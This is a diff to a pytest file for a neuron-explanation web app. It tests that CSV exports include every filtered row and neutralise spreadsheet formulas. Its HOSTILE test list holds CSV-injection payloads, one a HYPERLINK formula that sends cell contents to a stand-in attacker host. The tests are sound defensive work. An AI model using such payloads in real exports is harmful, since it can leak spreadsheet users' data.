@@ -33,7 +33,13 @@ def client(web_db, tiny_model_dir):
 def parse_csv(r) -> list[dict]:
     assert r.status_code == 200, r.text[:300]
     assert r.headers["content-type"].startswith("text/csv")
-    return list(csv.DictReader(io.StringIO(r.text)))
+    return list(csv.DictReader(io.StringIO(r.text, newline="")))
+
+
+def neutralised(v: str) -> str:
+    """A text cell as the CSV writes it: a leading ' where a spreadsheet would see a formula
+    (OWASP: cells starting with =, +, -, @, tab or CR)."""
+    return "'" + v if v and v[0] in "=+-@\t\r" else v
 
 
 def same_rows(csv_rows: list[dict], json_rows: list[dict]) -> None:
@@ -47,7 +53,18 @@ def same_rows(csv_rows: list[dict], json_rows: list[dict]) -> None:
             if isinstance(v, float):
                 assert float(c[k]) == v, k
             else:
-                assert c[k] == str(want), k
+                assert c[k] == neutralised(str(want)), k
+
+
+def all_json_rows(client, path: str, params: dict, key: str) -> list[dict]:
+    """Every row of a paginated JSON twin with ``params``' filters, page after page."""
+    out, page = [], 1
+    while True:
+        d = client.get(path, params={**params, "page": page, "per_page": 500}).json()
+        out += d[key]
+        if page >= d["pages"]:
+            return out
+        page += 1
 
 
 # --- item 10: the neuron list's first view ----------------------------------------------------------
@@ -182,8 +199,11 @@ def test_pair_states_skipped_and_not_computed(tmp_path, web_db, tiny_model, tiny
 @pytest.mark.parametrize("params", [{}, {"kind": "all", "per_page": 7, "page": 2},
                                     {"kind": "all", "sort": "token", "order": "asc", "q": "e"}])
 def test_neuron_list_csv_has_the_json_rows(client, params):
+    """Every row matching the filters (all pages, whatever page is asked), as the JSON twins."""
     j = client.get(f"/{TOPK_RUN}/neurons.json", params=params).json()
-    same_rows(parse_csv(client.get(f"/{TOPK_RUN}/neurons.csv", params=params)), j["neurons"])
+    filters = {k: v for k, v in params.items() if k not in ("page", "per_page")}
+    same_rows(parse_csv(client.get(f"/{TOPK_RUN}/neurons.csv", params=params)),
+              all_json_rows(client, f"/{TOPK_RUN}/neurons.json", filters, "neurons"))
     html = client.get(f"/{TOPK_RUN}/neurons", params=params).text
     assert f'href="{j["links"]["csv"]}"'.replace("&", "&amp;") in html
 
@@ -200,7 +220,9 @@ def test_head_and_pair_list_csv_have_the_json_rows(client, web_db):
     for params in ({}, {"kept": "false", "per_page": 10, "page": 2}, {"explainer": "baseline", "kind": "random"},
                    {"min_score": 0.5, "sort": "neuron"}):
         j = client.get(f"/{TOPK_RUN}/pairs.json", params=params).json()
-        same_rows(parse_csv(client.get(f"/{TOPK_RUN}/pairs.csv", params=params)), j["pairs"])
+        filters = {k: v for k, v in params.items() if k not in ("page", "per_page")}
+        same_rows(parse_csv(client.get(f"/{TOPK_RUN}/pairs.csv", params=params)),
+                  all_json_rows(client, f"/{TOPK_RUN}/pairs.json", filters, "pairs"))
         assert f'href="{j["links"]["csv"]}"'.replace("&", "&amp;") in \
             client.get(f"/{TOPK_RUN}/pairs", params=params).text
     d = client.get(f"/{TOPK_RUN}/pairs.json", params={"per_page": 500}).json()
@@ -229,3 +251,81 @@ def test_db_metadata_describes_every_table_and_column(tmp_path, web_db):
     con.close()
     assert tables["phases"]["units"] == {"seconds": "s"}
     assert "W_out" in tables["neurons"]["columns"]["congruence"]
+
+
+# --- issue 18 item 18, issue 21 item 9: every row, any token text, no formulas ----------------------
+
+HOSTILE = ["=1+1", "+SUM(A1)", "-2+3", "@SUM(A1:A9)", "\tTAB", "\rCR", "\r", "\n", "a\r\nb", "\x00",
+           '"q", c', "\x16\x7f", '=HYPERLINK("http://evil.example/?x="&A1)']
+
+
+def test_csv_twins_export_every_row_matching_the_filters_streamed(client, web_db):
+    for path, key, params in ((f"/{TOPK_RUN}/neurons", "neurons", {"kind": "all", "per_page": 7, "page": 2}),
+                              (f"/{TOPK_RUN}/pairs", "pairs", {"kept": "false", "per_page": 10, "page": 2})):
+        first = client.get(f"{path}.json", params=params).json()
+        r = client.get(f"{path}.csv", params=params)
+        assert "content-length" not in r.headers  # streamed, not built whole
+        rows = parse_csv(r)
+        assert len(rows) == first["total"] > len(first[key]) and first["pages"] > 2
+        every = all_json_rows(client, f"{path}.json", {k: v for k, v in params.items()
+                                                       if k not in ("page", "per_page")}, key)
+        same_rows(rows, every)
+    n_all = one(web_db, "SELECT count(*) FROM neurons n JOIN runs r ON r.id = n.run_id WHERE r.slug = ?",
+                TOPK_RUN)[0]
+    assert len(parse_csv(client.get(f"/{TOPK_RUN}/neurons.csv", params={"kind": "all"}))) == n_all
+
+
+def _hostile_copy(web_db, tmp_path):
+    """A copy of the web database whose first neurons carry HOSTILE tokens and whose first
+    explanations a formula."""
+    db = tmp_path / "hostile.db"
+    shutil.copy(web_db, db)
+    db.chmod(0o644)
+    con = sqlite3.connect(db)
+    ids = [i for (i,) in con.execute("SELECT n.id FROM neurons n JOIN runs r ON r.id = n.run_id WHERE r.slug = ? "
+                                     "ORDER BY n.layer, n.neuron LIMIT ?", (TOPK_RUN, len(HOSTILE)))]
+    for i, token in zip(ids, HOSTILE):
+        con.execute("UPDATE neurons SET token = ? WHERE id = ?", (token, i))
+    con.execute("UPDATE explanations SET text = ? WHERE id IN (SELECT e.id FROM explanations e JOIN pairs p ON "
+                "p.id = e.pair_id JOIN runs r ON r.id = p.run_id WHERE r.slug = ? ORDER BY e.id LIMIT 3)",
+                (HOSTILE[-1], TOPK_RUN))
+    con.commit()
+    con.close()
+    return db
+
+
+def test_csv_round_trips_any_token_text_and_neutralises_formulas(tmp_path, web_db, tiny_model_dir):
+    """A bare CR token does not split a row; cells that a spreadsheet would run as a formula
+    start with '; the JSON twin keeps every text exact."""
+    db = _hostile_copy(web_db, tmp_path)
+    with make_client(db, tiny_model_dir) as c:
+        every = all_json_rows(c, f"/{TOPK_RUN}/neurons.json", {"kind": "all"}, "neurons")
+        assert set(HOSTILE) <= {n["token"] for n in every}  # JSON: exact
+        text = c.get(f"/{TOPK_RUN}/neurons.csv", params={"kind": "all"}).text
+        table = list(csv.reader(io.StringIO(text, newline="")))
+        assert len(table) == 1 + len(every)  # header + one row per neuron, whatever the tokens
+        rows = [dict(zip(table[0], r)) for r in table[1:]]
+        same_rows(rows, every)
+        shown = {r["token"] for r in rows}
+        assert "'=1+1" in shown and "'@SUM(A1:A9)" in shown and "'-2+3" in shown and "'\r" in shown
+        assert not [t for t in shown if t[:1] in ("=", "+", "-", "@", "\t", "\r")]
+        pairs = all_json_rows(c, f"/{TOPK_RUN}/pairs.json", {"kept": "false"}, "pairs")
+        assert HOSTILE[-1] in {p["explanation"] for p in pairs}
+        csv_pairs = parse_csv(c.get(f"/{TOPK_RUN}/pairs.csv", params={"kept": "false"}))
+        assert "'" + HOSTILE[-1] in {p["explanation"] for p in csv_pairs}
+        same_rows(csv_pairs, pairs)
+
+
+def test_control_characters_are_escaped_in_token_escaped(tmp_path, web_db, tiny_model_dir):
+    from precompute.tokens import escaped
+
+    assert escaped([1, 2, 3, 4, 5], ["\x00", "\r", "\n", "a\tb", "\x16\x7f"], {}) == \
+        ["\\x00", "\\x0d", "\n", "a\tb", "\\x16\\x7f"]
+    db = _hostile_copy(web_db, tmp_path)
+    with make_client(db, tiny_model_dir) as c:
+        every = all_json_rows(c, f"/{TOPK_RUN}/neurons.json", {"kind": "all"}, "neurons")
+        by_token = {n["token"]: n["token_escaped"] for n in every}
+        assert by_token["\x00"] == "\\x00" and by_token["\r"] == "\\x0d" and by_token["\x16\x7f"] == "\\x16\\x7f"
+        assert by_token["\n"] == "\n" and by_token["a\r\nb"] == "a\\x0d\nb"
+        layer, neuron = next((n["layer"], n["neuron"]) for n in every if n["token"] == "\x00")
+        assert "\\x00" in c.get(f"/{TOPK_RUN}/neurons/{layer}/{neuron}").text
